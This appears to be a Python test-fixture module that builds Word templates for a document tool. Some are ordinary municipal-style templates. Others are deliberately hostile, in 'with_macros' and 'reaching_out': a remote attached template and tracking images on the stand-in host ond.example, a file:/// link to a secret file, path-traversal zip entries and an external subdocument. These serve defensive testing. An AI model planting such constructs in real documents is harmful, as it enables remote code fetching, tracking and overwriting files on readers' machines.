"""Templates like those of municipalities (Norwegian names, cover, landscape pages, logo), and malicious ones."""

import base64
import io
import re
import zipfile
from collections.abc import Callable
from functools import cache
from pathlib import Path

from planwizard.guide.files import content_file

Parts = dict[str, bytes]
SAMPLE = "Skriv teksten her"
PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "word/_rels/document.xml.rels"
DRAWING = (
    '<w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
    '<wp:extent cx="360000" cy="360000"/><wp:docPr id="{id}" name="Logo"/>'
    '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
    '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
    '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr>'
    '<pic:cNvPr id="{id}" name="Logo"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:{how}="{rel}"/>'
    '<a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/>'
    '<a:ext cx="360000" cy="360000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic>'
    "</a:graphicData></a:graphic></wp:inline></w:drawing>"
)
NORWEGIAN = {
    "Normal": "Standard",
    "heading 1": "Overskrift 1",
    "heading 2": "Overskrift 2",
    "heading 3": "Overskrift 3",
    "Title": "Tittel",
    "List Bullet": "Punktliste",
    "List Number": "Nummerert liste",
    "Table Grid": "Tabellrutenett",
    "Hyperlink": "Hyperkobling",
}
SECTION = (
    '<w:sectPr>{refs}<w:pgSz w:w="{w}" w:h="{h}"{orient}/><w:pgMar w:top="1000" w:right="{side}" w:bottom="1000"'
    ' w:left="{side}" w:header="500" w:footer="500" w:gutter="0"/>{more}</w:sectPr>'
)


@cache
def _ours() -> Parts:
    with zipfile.ZipFile(content_file("template.docx")) as package:
        return {name: package.read(name) for name in package.namelist()}


def packed(parts: Parts) -> bytes:
    """Return parts as the bytes of a file."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return data.getvalue()


def changed(parts: Parts, name: str, change: Callable[[str], str]) -> None:
    """Change the text of a part."""
    parts[name] = change(parts[name].decode()).encode()


def related(parts: Parts, rel: str, kind: str, target: str, *, owner: str = RELS, outside: bool = False) -> None:
    """Add a relationship to a part."""
    mode = ' TargetMode="External"' if outside else ""
    line = f'<Relationship Id="{rel}" Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'
    empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    parts.setdefault(owner, empty)
    changed(parts, owner, lambda xml: xml.replace("</Relationships>", line))


def typed(parts: Parts, default: str) -> None:
    """Add the content type of a file name extension."""
    changed(parts, "[Content_Types].xml", lambda xml: xml.replace("<Override", f"{default}<Override", 1))


def norwegian(*, custom_table: str = "") -> Parts:
    """Return a template as older programs write it: styles with Norwegian names and ids, and none of ours."""
    parts = dict(_ours())
    styles = parts["word/styles.xml"].decode()
    for style in re.findall(r"<w:style .*?</w:style>", styles, re.DOTALL):
        if 'w:customStyle="1"' in style or re.search('w:styleId="(TOC|Subtitle|BodyText)', style):
            styles = styles.replace(style, "")
    styles = styles.replace('<w:next w:val="BodyText"/>', '<w:next w:val="Normal"/>')
    for english, own in NORWEGIAN.items():
        found = re.search(rf'w:styleId="(\w+)">\s*<w:name w:val="{english}"/>', styles)
        assert found
        styles = styles.replace(f'<w:name w:val="{english}"/>', f'<w:name w:val="{own}"/>')
        styles = styles.replace(f'"{found[1]}"', f'"{own.replace(" ", "")}"')
        for name in ("word/numbering.xml", "word/header1.xml"):
            changed(parts, name, _renamed(found[1], own.replace(" ", "")))
    styles = styles.replace("1F4E5F", "7A1F3D").replace("</w:styles>", f"{custom_table}</w:styles>")
    parts["word/styles.xml"] = styles.encode()
    changed(parts, "word/settings.xml", lambda xml: xml.replace('<w:defaultTableStyle w:val="Plantabell"/>', ""))
    body = f'<w:p><w:pPr><w:pStyle w:val="Overskrift1"/></w:pPr><w:r><w:t>{SAMPLE}</w:t></w:r></w:p>'
    changed(parts, "word/document.xml", lambda xml: xml.replace("<w:body>", f"<w:body>{body}"))
    changed(parts, "word/header1.xml", _with_text("Storvik kommune"))
    return parts


def with_cover() -> Parts:
    """Return a template with a cover, landscape pages with narrow margins, and a logo on cover and header."""
    parts = dict(_ours())
    refs = '<w:headerReference w:type="default" r:id="header1"/><w:footerReference w:type="default" r:id="footer1"/>'
    cover = SECTION.format(refs="", w=11906, h=16838, orient="", side=2500, more='<w:vAlign w:val="center"/>')
    landscape = SECTION.format(refs=refs, w=16838, h=11906, orient=' w:orient="landscape"', side=600, more="")
    main = SECTION.format(refs=refs, w=11906, h=16838, orient="", side=1800, more="")
    logo = DRAWING.format(id=101, how="embed", rel="logo")
    text = f"<w:r><w:t>{SAMPLE}</w:t></w:r>"
    body = (
        f"<w:p><w:r>{logo}</w:r>{text}</w:p><w:p>{text}</w:p><w:p><w:pPr>{cover}</w:pPr>{text}</w:p>"
        f"<w:p>{text}</w:p><w:p><w:pPr>{landscape}</w:pPr>{text}</w:p><w:p>{text}</w:p>{main}"
    )
    changed(
        parts,
        "word/document.xml",
        lambda xml: re.sub(r"<w:body>.*</w:body>", f"<w:body>{body}</w:body>", xml, flags=re.DOTALL),
    )
    parts["word/media/logo.png"] = PIXEL
    related(parts, "logo", "image", "media/logo.png")
    related(parts, "logo", "image", "media/logo.png", owner="word/_rels/header1.xml.rels")
    typed(parts, '<Default Extension="png" ContentType="image/png"/>')
    header = DRAWING.format(id=102, how="embed", rel="logo").replace('name="Logo"/><a', 'name="Logo" descr="Våpen"/><a')
    changed(parts, "word/header1.xml", lambda xml: xml.replace("</w:p>", f"<w:r>{header}</w:r></w:p>"))
    return parts


def with_numbers() -> Parts:
    """Return a template whose headings number themselves: «Kapittel 1», «A.» and nothing, by a list of their own."""
    parts = dict(_ours())
    own = {
        1: '<w:numPr><w:numId w:val="7"/></w:numPr>',
        2: '<w:numPr><w:ilvl w:val="1"/><w:numId w:val="7"/></w:numPr>',
    }
    for level in (1, 2, 3):
        pattern = rf'(w:styleId="Heading{level}">.*?)<w:numPr>.*?</w:numPr>'
        styles = parts["word/styles.xml"].decode()
        parts["word/styles.xml"] = re.sub(
            pattern, rf"\1{own.get(level, '')}", styles, count=1, flags=re.DOTALL
        ).encode()
    forms = ("decimal", "Kapittel %1"), ("upperLetter", "%2.")
    levels = "".join(
        f'<w:lvl w:ilvl="{level}"><w:start w:val="1"/><w:numFmt w:val="{form}"/>'
        f'<w:pStyle w:val="Heading{level + 1}"/><w:lvlText w:val="{text}"/></w:lvl>'
        for level, (form, text) in enumerate(forms)
    )
    abstract = f'<w:abstractNum w:abstractNumId="9"><w:multiLevelType w:val="multilevel"/>{levels}</w:abstractNum>'
    num = '<w:num w:numId="7"><w:abstractNumId w:val="9"/></w:num></w:numbering>'
    changed(
        parts,
        "word/numbering.xml",
        lambda xml: (
            re.sub(r'<w:pStyle w:val="Heading\d"/>', "", xml)
            .replace('<w:num w:numId="1"', f'{abstract}<w:num w:numId="1"', 1)
            .replace("</w:numbering>", num)
        ),
    )
    return parts


def bare() -> Parts:
    """Return a document with only a body: no styles, lists, settings or header."""
    parts = {name: _ours()[name] for name in ("_rels/.rels", "[Content_Types].xml")}
    parts["word/document.xml"] = (
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:body><w:p><w:r><w:t>{SAMPLE}</w:t></w:r></w:p></w:body></w:document>"
    ).encode()
    return parts


def with_other_prefix() -> Parts:
    """Return a template whose document has another prefix for the namespace that nearly all call «w»."""
    parts = norwegian()
    changed(
        parts,
        "word/document.xml",
        lambda xml: re.sub(r"(?<=[</ ])w:", "x:", xml).replace("xmlns:w=", "xmlns:x="),
    )
    return parts


def as_dotx(parts: Parts) -> Parts:
    """Return a document as a Word template."""
    parts = dict(parts)
    changed(parts, "[Content_Types].xml", lambda xml: xml.replace("document.main+xml", "template.main+xml"))
    return parts


def with_macros(parts: Parts) -> Parts:
    """Return a document with macros."""
    parts = dict(parts)
    parts["word/vbaProject.bin"] = b"Sub AutoOpen"
    typed(parts, '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>')
    related(parts, "macros", "vbaProject", "vbaProject.bin")
    changed(
        parts,
        "[Content_Types].xml",
        lambda xml: xml.replace(
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            "application/vnd.ms-word.document.macroEnabled.main+xml",
        ),
    )
    return parts


def reaching_out() -> Parts:
    """Return a template that fetches, runs code and links out; none of it may reach the document."""
    parts = norwegian()
    related(
        parts,
        "evil1",
        "attachedTemplate",
        "http://ond.example/mal.dotm",
        owner="word/_rels/settings.xml.rels",
        outside=True,
    )
    changed(
        parts,
        "word/settings.xml",
        lambda xml: xml.replace("<w:defaultTabStop", '<w:attachedTemplate r:id="evil1"/><w:defaultTabStop').replace(
            "<w:characterSpacing", '<w:documentProtection w:edit="readOnly" w:enforcement="1"/><w:characterSpacing'
        ),
    )
    related(parts, "evil2", "image", "http://ond.example/spor.png", owner="word/_rels/header1.xml.rels", outside=True)
    related(parts, "evil3", "hyperlink", "file:///c:/hemmelig.txt", owner="word/_rels/header1.xml.rels", outside=True)
    related(parts, "good", "hyperlink", "https://storvik.kommune.no", owner="word/_rels/header1.xml.rels", outside=True)
    picture = DRAWING.format(id=3, how="link", rel="evil2")
    instruction = " INCLUDEPICTURE &quot;http://ond.example/b.png&quot; "
    field = f'<w:fldSimple w:instr="{instruction}">{_run("felt")}</w:fldSimple>'
    links = "".join(f'<w:hyperlink r:id="{rel}">{_run(rel)}</w:hyperlink>' for rel in ("evil3", "good"))
    changed(
        parts, "word/header1.xml", lambda xml: xml.replace("</w:p>", f"<w:r>{picture}</w:r>{links}{field}</w:p>", 1)
    )
    parts["word/vbaProject.bin"] = b"makro"
    parts["../../../tmp/ond.xml"] = b"<ond/>"
    parts["/etc/ond.xml"] = b"<ond/>"
    related(parts, "evil4", "vbaProject", "vbaProject.bin")
    related(parts, "evil5", "customXml", "../../../../tmp/ond.xml")
    related(parts, "evil6", "subDocument", "http://ond.example/del.docx", outside=True)
    related(parts, "lost", "image", "NULL")
    return parts


def _run(text: str) -> str:
    return f"<w:r><w:t>{text}</w:t></w:r>"


def _renamed(old: str, new: str) -> Callable[[str], str]:
    return lambda xml: xml.replace(f'"{old}"', f'"{new}"')


def _with_text(text: str) -> Callable[[str], str]:
    return lambda xml: xml.replace("</w:p>", f"<w:r><w:t>{text}</w:t></w:r></w:p>", 1)


# As LibreOffice writes it: a style with a Norwegian name, and landscape pages with other margins and header.
FODT = """<?xml version="1.0" encoding="UTF-8"?>
<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
 xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0"
 xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"
 xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0" office:version="1.2"
 office:mimetype="application/vnd.oasis.opendocument.text">
<office:styles>
<style:style style:name="Standard" style:family="paragraph" style:class="text"/>
<style:style style:name="O1" style:display-name="Overskrift 1" style:family="paragraph"
 style:parent-style-name="Standard" style:default-outline-level="1">
<style:text-properties fo:color="#006633" fo:font-size="20pt"/></style:style>
<style:style style:name="Tittel" style:family="paragraph" style:parent-style-name="Standard">
<style:text-properties fo:color="#660033" fo:font-size="30pt"/></style:style>
<style:style style:name="P" style:display-name="Punktliste"
 style:family="paragraph" style:parent-style-name="Standard"/>
</office:styles>
<office:automatic-styles>
<style:page-layout style:name="pm1"><style:page-layout-properties fo:page-width="21cm" fo:page-height="29.7cm"
 fo:margin-left="3cm" fo:margin-right="3cm" fo:margin-top="2cm" fo:margin-bottom="2cm"/></style:page-layout>
<style:page-layout style:name="pm2"><style:page-layout-properties fo:page-width="29.7cm" fo:page-height="21cm"
 fo:margin-left="1.5cm" fo:margin-right="1.5cm" fo:margin-top="2cm" fo:margin-bottom="2cm"
 style:print-orientation="landscape"/></style:page-layout>
<style:style style:name="L1" style:family="paragraph"
 style:parent-style-name="Standard" style:master-page-name="Liggende"/>
</office:automatic-styles>
<office:master-styles>
<style:master-page style:name="Standard" style:page-layout-name="pm1"><style:header><text:p>Storvik kommune</text:p>
</style:header><style:footer><text:p>Side <text:page-number>1</text:page-number></text:p></style:footer>
</style:master-page>
<style:master-page style:name="Liggende" style:page-layout-name="pm2"><style:header><text:p>Liggende side</text:p>
</style:header></style:master-page>
</office:master-styles>
<office:body><office:text>
<text:p text:style-name="Tittel">Skriv teksten her</text:p>
<text:h text:style-name="O1" text:outline-level="1">Skriv teksten her</text:h>
<text:p text:style-name="P">Skriv teksten her</text:p>
<text:p text:style-name="L1">Skriv teksten her</text:p>
</office:text></office:body></office:document>
"""


def write_fodt(folder: Path) -> Path:
    """Write the flat ODF file that LibreOffice converts to templates."""
    path = folder / "mal.fodt"
    path.write_text(FODT, encoding="utf-8")
    return path
